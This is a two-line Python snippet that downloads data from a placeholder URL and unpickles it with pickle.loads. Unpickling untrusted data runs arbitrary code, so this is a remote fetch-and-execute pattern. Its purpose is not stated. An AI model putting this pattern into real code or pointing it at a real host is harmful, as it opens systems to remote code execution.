import pickle, urllib.request
pickle.loads(urllib.request.urlopen("http://example.invalid/p").read())
